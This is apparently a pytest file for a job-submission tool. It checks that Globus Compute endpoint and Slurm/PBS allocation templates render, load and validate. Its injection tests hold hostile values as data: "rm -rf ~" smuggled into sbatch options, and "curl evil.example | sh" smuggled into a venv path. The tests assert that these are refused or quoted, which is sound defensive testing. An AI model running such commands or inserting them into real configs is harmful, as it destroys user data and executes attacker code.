"""Endpoint templates rendered and loaded by globus_compute_endpoint's own code; allocations."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from tpm_faas.cli import main
from tpm_faas.compute.sdk import Manifest
from tpm_faas.compute.templates import TEMPLATES, render
from tpm_faas.config import POLICIES
from tpm_faas.errors import ConfigError
from tpm_faas.launcher import Allocation

FID = "0e1f2a3b-0000-4000-8000-000000000001"
BYO = {
    "account": "tpm-test",
    "partition": "debug",
    "model": "demo-tpm@1",
    "venv": "/opt/tpm-faas/venv",
    "state_dir": "/var/tmp/tpm-faas",
    "gpus_per_node": 4,
    "tp": 4,
}
PROVIDER = {
    "allowed_functions": [FID],
    "identity_mapping_config_path": str(TEMPLATES / "provider" / "idmap.example.json"),
}


def test_every_template_renders_and_loads() -> None:
    manager = render(TEMPLATES / "provider" / "config.yaml.j2", PROVIDER)
    assert manager.kind == "manager" and [str(f) for f in manager.config.allowed_functions] == [FID]
    user = render(
        TEMPLATES / "provider" / "user_config_template.yaml.j2",
        {"workers": 2},
        identity="ae341a98-d274-11e5-b888-dbae3a8ba545",
    )
    assert user.kind == "endpoint"
    assert 'TPM_FAAS_MAPPED_IDENTITY="ae341a98-d274-11e5-b888-dbae3a8ba545"' in user.text
    engine = user.config.engine
    assert type(engine).__name__ == "GlobusComputeEngine"
    allowed = {t.__name__ for t in engine.serde.allowed_deserializer_types}
    assert allowed == {"PureSourceTextInspect", "JSONData"}  # no pickles accepted
    byo = render(TEMPLATES / "byo" / "config.yaml.j2", {**BYO, "allowed_functions": [FID]})
    assert byo.kind == "endpoint" and [str(f) for f in byo.config.allowed_functions] == [FID]
    provider = byo.config.engine.executor.provider
    assert (provider.account, provider.partition) == ("tpm-test", "debug")
    spec = render(TEMPLATES / "byo" / "shard_group.yaml.j2", BYO).config
    assert spec["model"] == "demo-tpm@1" and spec["tp"] == 4
    assert spec["allocation"] == Allocation(
        kind="byo",
        provider="slurm",
        account="tpm-test",
        partition="debug",
        walltime="08:00:00",
        gpus_per_node=4,
        worker_init='source "/opt/tpm-faas/venv"/bin/activate',
    )


@pytest.mark.parametrize(
    ("variable", "value"),
    [
        ("account", "tpm-test\nqos: evil"),  # a new YAML key
        ("account", "x --wrap='rm -rf ~'"),  # sbatch options
        ("partition", 'debug"\nallowed_functions: []\n#'),
        ("venv", "relative/path"),
        ("workers", "8"),  # a string where a number belongs
        ("requirements", "evil-package"),  # a variable the schema does not know
    ],
)
def test_hostile_variables_are_refused(variable: str, value: str) -> None:
    with pytest.raises(ConfigError, match="ValidationError"):
        render(TEMPLATES / "byo" / "config.yaml.j2", {**BYO, variable: value})


def test_values_reach_the_shell_quoted() -> None:
    sneaky = "/opt/v; curl evil.example | sh"
    r = render(TEMPLATES / "byo" / "config.yaml.j2", {**BYO, "venv": sneaky})
    init = r.config.engine.executor.provider.worker_init
    assert "source \"'/opt/v; curl evil.example | sh'\"/bin/activate" in init
    # One YAML document with exactly the keys the template writes: nothing injected.
    assert set(yaml.safe_load(r.text)) == {"display_name", "engine"}


def test_render_command_with_a_manifest(tmp_path: Path) -> None:
    manifest = tmp_path / "functions.json"
    Manifest(
        functions={
            "query": FID,
            "embed": FID.replace("1", "2"),
            "intervene": FID.replace("1", "3"),
        },
        endpoints=["e"],
        models=["demo-tpm@1"],
        web_service="http://x",
    ).write(manifest)
    site = tmp_path / "site.yaml"
    site.write_text(
        yaml.safe_dump({"identity_mapping_config_path": PROVIDER["identity_mapping_config_path"]})
    )
    out = tmp_path / "config.yaml"
    res = CliRunner().invoke(
        main,
        [
            "endpoint",
            "render",
            str(TEMPLATES / "provider" / "config.yaml.j2"),
            "--vars",
            str(site),
            "--manifest",
            str(manifest),
            "--policy",
            str(POLICIES / "provider-site.yaml"),
            "--out",
            str(out),
        ],
    )
    assert res.exit_code == 0, res.output
    assert "valid policy" in res.output
    assert "user_config_template.yaml.j2: rendered and loaded (endpoint config)" in res.output
    assert len(yaml.safe_load(out.read_text())["allowed_functions"]) == 3
    bad = CliRunner().invoke(
        main,
        ["endpoint", "render", str(TEMPLATES / "provider" / "config.yaml.j2"), "--vars", str(site)],
    )
    assert bad.exit_code != 0 and "allowed_functions" in bad.output


def test_allocation_checks_and_providers() -> None:
    with pytest.raises(ConfigError, match="account"):
        Allocation(provider="slurm", account="a b")
    with pytest.raises(ConfigError, match="walltime"):
        Allocation(walltime="1h")
    with pytest.raises(ConfigError, match="needs an account"):
        Allocation(kind="byo", provider="slurm")
    with pytest.raises(ConfigError, match="unknown allocation settings: qos"):
        Allocation.from_dict({"qos": "high"})
    with pytest.raises(ConfigError, match="quote it"):
        Allocation.from_dict(yaml.safe_load("walltime: 12:00:00"))  # YAML reads a number
    with pytest.raises(ConfigError, match="nodes='2'"):
        Allocation.from_dict({"nodes": "2"})
    with pytest.raises(ConfigError, match="srun or mpiexec"):
        Allocation(provider="slurm", nodes=2)
    two = Allocation(provider="slurm", launcher="srun", nodes=2)
    assert two.parsl_provider(Path(sys.executable).parent).nodes_per_block == 2
    bindir = Path(sys.executable).parent
    slurm = Allocation(
        provider="slurm", launcher="srun", account="a", partition="gpu", gpus_per_node=4
    ).parsl_provider(bindir)
    assert (slurm.account, slurm.partition, type(slurm.launcher).__name__) == (
        "a",
        "gpu",
        "SrunLauncher",
    )
    assert str(bindir) in slurm.worker_init
    pbs = Allocation(
        provider="pbspro", launcher="mpiexec", account="a", partition="prod", gpus_per_node=4
    ).parsl_provider(bindir)
    assert (pbs.account, pbs.queue, pbs.select_options) == ("a", "prod", "ngpus=4")
    assert type(pbs.launcher).__name__ == "MpiExecLauncher"
    assert type(Allocation().parsl_provider(bindir)).__name__ == "LocalProvider"
